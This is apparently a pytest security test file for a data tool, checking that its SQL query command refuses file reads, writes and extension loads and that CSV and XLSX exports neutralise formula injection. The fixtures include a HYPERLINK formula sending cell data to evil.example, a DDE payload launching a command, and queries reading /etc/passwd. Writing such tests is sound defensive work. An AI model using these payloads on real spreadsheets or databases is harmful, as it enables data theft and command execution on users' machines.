"""Security holes an attacker reaches through the inbox or the query box (issue 11, 1–2).

`jixiao query` runs any SQL a person types: it must read the dataset and nothing else. A name or
folder written by a township may start with `=`: no spreadsheet we write may run it.
"""

from __future__ import annotations

import csv
import dataclasses
import random
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from fixtures.content import make_township_document
from fixtures.docx_writer import write_docx
from jixiao.analysis.export import export_xlsx
from jixiao.cli import app
from jixiao.flows.dataset import build_dataset
from jixiao.flows.extract import ExtractionCache, extract_file
from jixiao.flows.inbox import discover_inbox
from jixiao.normalizers.text import formula_like, inert_csv_cell
from jixiao.store.local import StoreError, run_query

LINK = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
TOWNSHIP = "=1+2镇"


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A dataset from one docx whose first indicator is named like a formula, in a folder named like one."""
    root = tmp_path_factory.mktemp("poisoned")
    doc = make_township_document(random.Random(7), TOWNSHIP, "13020007", 2024, 2)
    project = doc.projects[0]
    project.indicators = [dataclasses.replace(project.indicators[0], name_raw=LINK),
                          dataclasses.replace(project.indicators[1], name_raw="\t-1+cmd|' /C calc'!A0"),
                          *project.indicators[2:]]
    path = root / "inbox" / TOWNSHIP / "绩效目标.docx"
    path.parent.mkdir(parents=True)
    write_docx(doc, path)
    out = root / "out"
    files = discover_inbox(root / "inbox")
    for file in files:
        ExtractionCache(out).put(extract_file(file.path, file.doc_id))
    build_dataset(files, out)
    return out


@pytest.mark.parametrize("sql", [
    "select * from read_text('/etc/passwd')",
    "select * from read_csv('/etc/passwd')",
    "select * from glob('/*')",
    "copy (select 1) to '{tmp}/written.csv'",
    "copy (select * from indicators limit 0) to '{out}/parquet/indicators.parquet'",
    "attach '{tmp}/other.duckdb' as other",
    "export database '{tmp}/dump'",
    "install httpfs",
    "load httpfs",
    "set enable_external_access = true",
    "set allowed_directories = ['/']",
])
def test_query_cannot_touch_any_file_but_the_dataset(example_dataset: Path, tmp_path: Path, sql: str):
    before = {p: p.stat().st_mtime_ns for p in example_dataset.rglob("*") if p.is_file()}
    with pytest.raises(StoreError) as refused:
        run_query(example_dataset, sql.format(tmp=tmp_path, out=example_dataset))
    message = str(refused.value)
    assert "\n" not in message and "refused" in message, message
    assert not any(tmp_path.iterdir()), "nothing may be written"
    assert {p: p.stat().st_mtime_ns for p in example_dataset.rglob("*") if p.is_file()} == before


def test_query_still_reads_the_dataset_and_says_one_line_on_a_typo(example_dataset: Path):
    columns, rows = run_query(example_dataset, "select count(*) as n from documents")
    assert columns == ["n"] and rows[0][0] > 0
    with pytest.raises(StoreError) as typo:
        run_query(example_dataset, "select * from indicatorz")
    assert "\n" not in str(typo.value) and "indicatorz" in str(typo.value)


def test_query_command_refuses_in_one_line(example_dataset: Path):
    result = CliRunner().invoke(app, ["query", "select * from read_text('/etc/passwd')", "--out",
                                      str(example_dataset)])
    assert result.exit_code != 0
    assert "root:" not in result.output and "refused" in result.output
    assert "Traceback" not in result.output


def test_formula_like_text():
    for text in ["=1+2", "+1", "-2+3", "@SUM(A1)", " =1", "\t=1", "\r=1", "\n@x", "＝1+2", "\t"]:
        assert formula_like(text), text
        assert inert_csv_cell(text) == "'" + text
    for text in ["丰登坞镇", "≥95%", "1-2月", "", "a=b"]:
        assert not formula_like(text) and inert_csv_cell(text) == text
    assert inert_csv_cell(-5.0) == -5.0  # numbers stay numbers


def test_xlsx_export_holds_no_formula_and_keeps_the_text(poisoned: Path, tmp_path: Path):
    path = tmp_path / "district.xlsx"
    export_xlsx(poisoned, path)
    cells = [c for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert LINK in texts and TOWNSHIP in texts, "the text is kept as written"
    # the raw sheet XML has no <f> element at all (what Excel would evaluate)
    import zipfile
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_review_csv_holds_no_formula(poisoned: Path):
    with (poisoned / "review.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells, "the poisoned name is in the review queue, made inert"
    assert "'" + TOWNSHIP in cells
    assert not [cell for cell in cells if formula_like(cell)]
